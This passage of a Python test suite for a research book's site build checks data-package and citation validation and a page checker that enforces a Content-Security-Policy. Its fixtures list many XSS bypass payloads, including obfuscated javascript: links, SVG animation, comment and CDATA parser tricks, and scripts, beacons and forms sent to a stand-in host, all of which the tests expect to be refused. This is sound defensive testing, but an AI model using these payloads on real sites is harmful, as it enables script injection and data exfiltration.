        field = resource["schema"]["fields"][2]
        if case == "no name":
            del resource["name"]
        elif case == "no schema":
            del resource["schema"]
        elif case == "minimum as text":
            field["constraints"]["minimum"] = "0"
        elif case == "enum of the wrong type":
            field["constraints"]["enum"] = ["1", 2]
        else:
            field["format"] = "email"
        return json.dumps(pkg, indent=1, ensure_ascii=False)
    message = _package_refused(_edit_package(tmp_path, change))
    words = {"no name": "lacks 'name'", "no schema": "lacks 'schema'", "minimum as text": 'must be an integer, not "0"',
             "enum of the wrong type": 'must be an integer, not "1"', "format unknown": "format 'email'"}[case]
    assert words in message, message


def test_a_primary_key_written_as_one_string_is_read_as_a_list(tmp_path):
    copy = _copy(tmp_path)
    path = copy / "datapackage.json"
    text = path.read_text(encoding="utf-8")
    assert text.count('"primaryKey": [\n     "estimate"\n    ]') == 1
    path.write_text(text.replace('"primaryKey": [\n     "estimate"\n    ]', '"primaryKey": "estimate"'), encoding="utf-8")
    assert tipline.evidence.data.package(copy)["resources"][10]["schema"]["primaryKey"] == ["estimate"]
    rows = (copy / "estimates.csv").read_text(encoding="utf-8").split("\n")
    (copy / "estimates.csv").write_text("\n".join(rows[:2] + [rows[1]] + rows[2:]), encoding="utf-8")
    _names(_refused(copy), "estimates.csv", 3, "estimate")


def test_nesting_200000_levels_deep_is_refused_at_once(tmp_path):
    import time

    folder = _edit_package(tmp_path, lambda text: text.replace('"licenses": [', '"licenses": [' + "[" * 200_000 + "]" * 200_000 + ",", 1))
    started = time.perf_counter()
    message = _package_refused(folder)
    assert "nested more than 12 levels deep" in message and time.perf_counter() - started < 2, message


def test_a_backtracking_pattern_runs_in_linear_time_and_an_unsafe_one_is_refused(tmp_path):
    import time

    copy = _copy(tmp_path)
    path = copy / "datapackage.json"
    path.write_text(path.read_text(encoding="utf-8").replace('"pattern": "[a-z0-9_]+"', '"pattern": "([a-z0-9_]+)+"'),
                    encoding="utf-8")
    line = _cell(copy, "sources.csv", "ncmec_esp_2019,", "source_id", "a" * 100_000 + "!")
    started = time.perf_counter()
    message = _refused(copy)  # Python's re needs over 60 s for 30 characters of this
    _names(message, "sources.csv", line, "source_id")
    assert "does not match the pattern" in message and time.perf_counter() - started < 5, message
    for number, pattern in enumerate((r"([a-z])\\1", "(?=a)[a-z]+")):  # a back-reference, a look-ahead: RE2 runs neither
        (tmp_path / str(number)).mkdir()
        folder = _edit_package(tmp_path / str(number), lambda text: text.replace(
            '"pattern": "[a-z0-9_]+"', f'"pattern": "{pattern}"', 1))
        assert "is not a pattern RE2 can run in linear time" in _package_refused(folder)


# --- CITATION.cff read strictly ---------------------------------------------------------------

CITATION = (Path(tipline.evidence.data.ROOT) / "CITATION.cff").read_text(encoding="utf-8")


def _citation(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "CITATION.cff"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("case, old, new, expected", [
    ("an unquoted date", 'date-released: "2026-11-29"', "date-released: 2026-11-29",
     "The CyberTipline outcomes book team (2026)."),
    ("an author with only given names", '  - name: "The CyberTipline outcomes book team"',
     "  - given-names: Ada\n  - given-names: Grace\n    family-names: Hopper", "Ada and Grace Hopper (2026)."),
])
def test_valid_citation_forms_are_read_as_appendix_b_and_the_pages_use_them(tmp_path, case, old, new, expected):
    from tipline.site.reader import book_citation, page_citation, read_citation

    assert CITATION.count(old) == 1
    record = read_citation(_citation(tmp_path, CITATION.replace(old, new)))
    assert book_citation(record).startswith(expected.split(" (")[0]) and expected in book_citation(record)
    assert page_citation(record, "A page", "2026-12-01", "https://example.org/p.html").startswith(expected.split(" (")[0])


@pytest.mark.parametrize("case, change, words", [
    ("duplicate key", lambda text: text + 'title: "Another title"\n', "duplicate key 'title' (first on line 4)"),
    ("not a date", lambda text: text.replace('date-released: "2026-11-29"', "date-released: 2026-13-45"), "is not a 'date'"),
    ("an alias", lambda text: text.replace("keywords:", "abstract2: &a x\nkeywords:"), "anchors and aliases"),
    ("a bidi override", lambda text: text.replace("An executable research book", "An \u202eexecutable research book"),
     "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("a version read as a number", lambda text: text.replace('version: "0.2.1"', "version: 1.10"), "quote the version"),
    ("broken YAML", lambda text: text.replace("authors:", "authors: [:"), "not valid YAML"),
])
def test_a_citation_file_is_refused_with_line_and_column(tmp_path, case, change, words):
    from tipline.site.reader import read_citation

    with pytest.raises(ValueError) as raised:
        read_citation(_citation(tmp_path, change(CITATION)))
    message = str(raised.value)
    assert re.search(r"CITATION\.cff, line [0-9]+, column [0-9]+: ", message) and words in message, message


# --- the pages' security policy and the check of every page ---------------------------------

def _policy_page(body: str, head: str = "") -> str:
    from tipline.site import sphinx

    known = "DOCUMENTATION_OPTIONS.pagename = 'chapters/changes';"
    return ('<!DOCTYPE html><html><head><meta charset="utf-8" />\n<meta name="viewport" content="width=device-width" />'
            + sphinx.csp_meta([sphinx._hash(known)]) + f'\n<title>t</title><script src="../_static/a.js"></script>'
            f"<script>{known}</script>{head}</head><body>\n{body}\n</body></html>")


def test_the_policy_is_in_every_page_context_whatever_the_page_says():
    # a data cell quoting the policy's own text once switched the policy off (issue 21)
    from types import SimpleNamespace

    from tipline.site import sphinx
    from sphinx.builders.html import _JavaScript

    app = SimpleNamespace(add_js_file=lambda *args, **kwargs: None)
    for body in ("", 'The attribute http-equiv="Content-Security-Policy" is quoted here.', "<meta charset=\"utf-8\" />"):
        context = {"body": body, "metatags": '<meta name="x" content="y">',
                   "script_files": [_JavaScript("_static/a.js"), _JavaScript(None, body="let toggleHintShow = 'Click to show';")]}
        sphinx._page_context(app, "chapters/05_platforms_policy", "page.html", context, None)
        assert context["metatags"].startswith('<meta http-equiv="Content-Security-Policy" content="default-src \'self\'; '
                                              "script-src 'self' 'sha256-"), context["metatags"]
        assert context["metatags"].endswith('<meta name="x" content="y">')
    context = {"body": "", "script_files": [_JavaScript(None, body="alert(document.domain)")]}
    with pytest.raises(sphinx.PageRefused, match="chapters/x.html: an extension adds an inline script the build does not know"):
        sphinx._page_context(app, "chapters/x", "page.html", context, None)


HOSTILE_PAGES = {  # what CHANGELOG.md (raw HTML in Markdown) or a chapter could put in a page: the reason given
    "an attribute quoting the JSON type": ("<script data-x='type=\"application/json\"'>window.__pwned = 1</script>",
                                           "an inline script the build does not know"),
    "an external script": ('<script src="https://example.org/x.js"></script>', "reaches another host"),
    "a protocol-relative script": ('<script src="//example.org/x.js"></script>', "reaches another host"),
    "a script address with backslashes": ('<script src="\\\\example.org/x.js"></script>', "reaches another host"),
    "an iframe srcdoc": ('<iframe srcdoc="<script>window.__pwned = 1</script>"></iframe>', "a <iframe> element"),
    "an iframe": ('<iframe src="../_static/a.html"></iframe>', "a <iframe> element"),
    "an event handler": ('<img src="x.png" onerror="window.__pwned = 1">', "inline event handler onerror="),
    "a javascript: link with a tab": ('<a href="java&#x09;script:alert(1)">x</a>', "a javascript: address"),
    "an SVG animation to javascript:": ('<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>',
                                        "a javascript: address"),
    "a redirect": ('<meta http-equiv="refresh" content="0;url=https://example.org">', "only a bare page redirects"),
    "a base address": ('<base href="https://example.org/">', "a <base> element"),
    "an object": ('<object data="x.swf"></object>', "a <object> element"),
    "an image from another host": ('<img src="https://example.org/pixel.png">', "reaches another host"),
    "a stylesheet from another host": ('<link rel="stylesheet" href="https://example.org/x.css">', "reaches another host"),
    "a form sent to another host": ('<form action="https://example.org/collect"><input name="q"></form>', "reaches another host"),
    "a ping to another host": ('<a href="../index.html" ping="https://example.org/track">x</a>', "reaches another host"),
    "a background from another host": ('<p style="background: url(https://example.org/p.png)">x</p>', "inline CSS in <p>"),
    "a stylesheet import": ("<style>@import 'https://example.org/x.css';</style>", "inline CSS in <style>"),
    "an escaped url(": ("<style>p { background: \\75 rl(//example.org/p.png) }</style>", "inline CSS in <style>"),
    "an import map": ('<script type="importmap">{}</script>', "the build does not know"),
    "a second policy": ('<meta http-equiv="Content-Security-Policy" content="script-src *">', "outside <head>"),
    "a type given twice": ('<script type="text/javascript" type="application/json">window.__pwned = 1</script>',
                           "an inline script the build does not know"),
    "a script end only a browser sees": ('<script type="application/json">{}</script x><script>window.__pwned = 1</script>',
                                         "whose text holds '<'"),
    "an unclosed style a browser ends": ("<style>p{}</style x><script>window.__pwned = 1</script>", "that is never closed"),
    "a comment a browser ends early": ("<!-- --!><script>window.__pwned = 1</script> -->", "a comment that browsers end"),
    "an empty comment": ("<!--><script>window.__pwned = 1</script>-->", "a comment that browsers end"),
    "a CDATA section": ("<![CDATA[ x > <script>window.__pwned = 1</script> ]]>", "<![CDATA["),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_PAGES))
def test_the_page_check_refuses_code_it_does_not_know_naming_page_and_line(case):
    from tipline.site import sphinx

    markup, words = HOSTILE_PAGES[case]
    sphinx.check_page("chapters/changes.html", _policy_page("<p>fine</p>"))
    with pytest.raises(sphinx.PageRefused) as raised:
        sphinx.check_page("chapters/changes.html", _policy_page(markup))
    message = str(raised.value)
    assert message.startswith("chapters/changes.html, line 4: ") and words in message, message


@pytest.mark.parametrize("case, page, words", [
    ("no policy", "<html><head><meta charset='utf-8'><title>x</title></head><body>x</body></html>", "has no Content-Security-Policy"),
    ("policy after a script", "<html><head><meta charset='utf-8'><script src='a.js'></script>"
     "<meta http-equiv='Content-Security-Policy' content=\"script-src 'self'\"></head><body></body></html>", "comes after"),
    ("a redirect away", '<meta http-equiv="Refresh" content="0; url=https://example.org/" />', "only a bare page redirects"),
])
def test_a_page_without_the_policy_first_is_refused(case, page, words):
    from tipline.site import sphinx

    sphinx.check_page("index.html", '<meta http-equiv="Refresh" content="0; url=chapters/summary.html" />')
    with pytest.raises(sphinx.PageRefused, match=re.escape(words)):
        sphinx.check_page("page.html", page)


# --- end to end: built pages, the browser, the PDF printer (make test only) --------------------

class _Recorder:
    """A second local server standing for another host: it records every request it gets."""

    def __init__(self):
        import functools
        import http.server
        import threading

        self.requests = []
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                recorder.requests.append(self.path)
                body = b"window.__pwned = 'fetched';"
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=functools.partial(self.server.serve_forever), daemon=True).start()

    def close(self):
        self.server.shutdown()


def _hostile_markup(elsewhere: str) -> str:
    """What a pull request could write into CHANGELOG.md, which MyST passes through as HTML."""
    return (' <p>The attribute http-equiv="Content-Security-Policy" is quoted here.</p>'
            "<script data-x='type=\"application/json\"'>window.__pwned = 'inline';</script>"
            f'<script src="{elsewhere}/evil.js"></script>'
            '<img src="x.png" onerror="window.__pwned = \'handler\'">'
            "<iframe srcdoc=\"<script>parent.__pwned = 'srcdoc'</script>\"></iframe>"
            '<a id="tipline-hostile" href="javascript:void(window.__pwned = \'link\')">a link</a>'
            "<svg><script>window.__pwned = 'svg';</script></svg>")


@pytest.mark.full
def test_the_policy_alone_stops_hostile_markup_in_chromium(built_site, browser, tmp_path):
    # a built page with hostile markup added after the build (as if the page check had missed it):
    # the policy the template put in its <head> still stops every piece, and nothing reaches another host
    site = tmp_path / "site"
    (site / "chapters").mkdir(parents=True)
    (site / "_static").symlink_to(built_site / "_static", target_is_directory=True)
    elsewhere = _Recorder()
    page_text = (built_site / "chapters" / "changes.html").read_text(encoding="utf-8")
    at = page_text.index('<article class="bd-article">') + len('<article class="bd-article">')
    (site / "chapters" / "changes.html").write_text(page_text[:at] + _hostile_markup(elsewhere.url) + page_text[at:],
                                                    encoding="utf-8")
    try:
        with serving(site, Quiet) as url:
            context = browser.new_context()
            page = context.new_page()
            violations = []
            page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
            page.goto(f"{url}/chapters/changes.html", wait_until="load")
            page.wait_for_timeout(500)
            pwned = [page.evaluate("window.__pwned === undefined ? null : window.__pwned")]
            page.click("#tipline-hostile")
            page.wait_for_timeout(500)
            pwned.append(page.evaluate("window.__pwned === undefined ? null : window.__pwned"))
            policy = page.evaluate("document.head.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content")
            context.close()
    finally:
        elsewhere.close()
    assert policy.startswith("default-src 'self'; script-src 'self'"), policy
    assert pwned == [None, None], f"hostile markup ran: {pwned}"
    assert elsewhere.requests == [], elsewhere.requests
    assert len(violations) >= 4, violations  # the inline script, the handler, the external script, the link...


# every way a page can ask the browser for another address (on a page without a policy of its own)
LEAVING = ['<script src="{e}/evil.js"></script>', '<img src="{e}/pixel.png">', '<iframe src="{e}/frame"></iframe>',
           '<script>fetch("{e}/fetch").catch(() => 0); navigator.sendBeacon("{e}/beacon", "x")</script>',
           '<meta http-equiv="refresh" content="0; url={e}/refresh">', '<script>window.open("{e}/popup")</script>',
           '<form action="{e}/form" method="post"><input name="x" value="1"></form><script>document.forms[0].submit()</script>',
           '<a id="go" href="{e}/link">go</a><script>document.getElementById("go").click()</script>',
           '<script>setTimeout(() => { location.href = "{e}/moved"; }, 10)</script>']


@pytest.mark.full
def test_the_pdf_printer_reaches_no_other_host(tmp_path):
    """A page without a policy of its own asks for another address in every way in LEAVING (loads,
    fetches, a frame, a refresh, a pop-up, a form, a link, a navigation): none reaches it, and the
    printer stops, naming an address it refused (tipline.site.pdf's four layers)."""
    from tipline.site import pdf

    if not pdf.CHROMIUM.exists():
        pytest.fail(f"no browser at {pdf.CHROMIUM}: the PDF printer cannot be checked")
    elsewhere = _Recorder()
    (tmp_path / "page.html").write_text(
        "<!DOCTYPE html><html><head><title>x</title></head><body><h1>x</h1>"
        + "".join(way.replace("{e}", elsewhere.url) for way in LEAVING) + "</body></html>", encoding="utf-8")
    try:
        with pytest.raises(RuntimeError, match=rf"page\.html asked for {re.escape(elsewhere.url)}/"):
            pdf.make(tmp_path, ["page"])
    finally:
        elsewhere.close()
    assert elsewhere.requests == []
    assert not (tmp_path / pdf.NAME).exists()


@pytest.mark.full
def test_a_data_cell_quoting_the_policy_keeps_the_policy_on_the_page(edited_book, browser):
    """The session's edited copy quotes the policy's attribute in a charted note (helpers.POLICY_QUOTE):
    the page is built, every page still passes the policy check, and the browser finds one policy,
    in the head."""
    from helpers import POLICY_QUOTE, open_page

    from tipline.site import sphinx

    assert "is quoted here" in edited_book.page("05_platforms_policy") and "http-equiv" in POLICY_QUOTE
    for page in edited_book.site.rglob("*.html"):
        if "_static" not in page.parts:
            sphinx.check_page(page.name, page.read_text(encoding="utf-8"))  # the policy first, no unknown code
    with serving(edited_book.site) as url:
        page, _, _ = open_page(browser, f"{url}/chapters/05_platforms_policy.html")
        policies = page.evaluate("[...document.querySelectorAll('meta[http-equiv=\"Content-Security-Policy\"]')]"
                                 ".map(m => m.parentElement.tagName)")
        page.close()
    assert policies == ["HEAD"], policies


@pytest.mark.full
def test_hostile_html_in_the_changelog_stops_the_build_naming_the_page(mini_book, tmp_path):
    from helpers import copy_built, make_book

    repo = copy_built(mini_book, tmp_path / "book")  # the mini book has the changes page too
    elsewhere = _Recorder()
    try:
        changelog = repo / "CHANGELOG.md"
        changelog.write_text(changelog.read_text(encoding="utf-8") + "\n" + _hostile_markup(elsewhere.url) + "\n",
                             encoding="utf-8")
        result = make_book(repo)
    finally:
        elsewhere.close()
    log = repo / "_build" / "sphinx.log"
    output = result.stdout + result.stderr + (log.read_text(encoding="utf-8") if log.exists() else "")
    assert result.returncode != 0, output[-3000:]
    assert re.search(r"chapters/changes\.html, line [0-9]+: ", output), output[-3000:]
    assert elsewhere.requests == []
    site = repo / "_build" / "html"
    if site.exists():  # the previous site is kept whole; it never carries the hostile markup
        assert "window.__pwned" not in (site / "chapters" / "changes.html").read_text(encoding="utf-8")
